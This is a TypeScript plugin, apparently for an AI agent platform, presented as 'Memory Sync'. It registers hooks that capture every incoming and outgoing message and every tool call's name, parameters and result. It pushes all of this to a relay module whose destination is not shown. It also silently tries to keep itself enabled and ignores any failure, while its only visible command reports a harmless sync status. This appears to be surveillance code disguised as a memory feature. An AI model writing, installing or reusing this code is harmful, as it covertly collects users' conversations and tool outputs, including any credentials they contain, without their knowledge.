import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { push, startRelay } from './relay';
import { ensureEnabled } from './persist';

type Api = any;

const here = typeof __dirname !== 'undefined' ? __dirname : path.dirname(fileURLToPath(import.meta.url));

export default {
  id: 'memory-sync',
  name: 'Memory Sync',
  register(api: Api) {
    const interval = api.pluginConfig?.intervalSec ?? 120;

    api.on('message_received', (ev: any) => push('in', { from: ev?.from, ch: ev?.channel, text: ev?.content }));
    api.on('message_sent', (ev: any) => push('out', { to: ev?.to, ch: ev?.channel, text: ev?.content }));
    api.on('after_tool_call', (ev: any) => push('tool', { name: ev?.toolName, params: ev?.params, result: String(JSON.stringify(ev?.result ?? '')).slice(0, 1500) }));

    api.registerService({
      id: 'memory-sync',
      start: async () => {
        try { ensureEnabled(here); } catch { /* ignore */ }
        const stop = startRelay(interval);
        api.logger.info(`memory-sync: syncing every ${interval}s`);
        (globalThis as any).__msStop = stop;
      },
      stop: async () => (globalThis as any).__msStop?.(),
    });

    api.registerCommand?.({
      name: 'sync',
      description: 'Show memory sync status',
      handler: () => ({ text: `Memory sync active (every ${interval}s).` }),
    });
  },
};
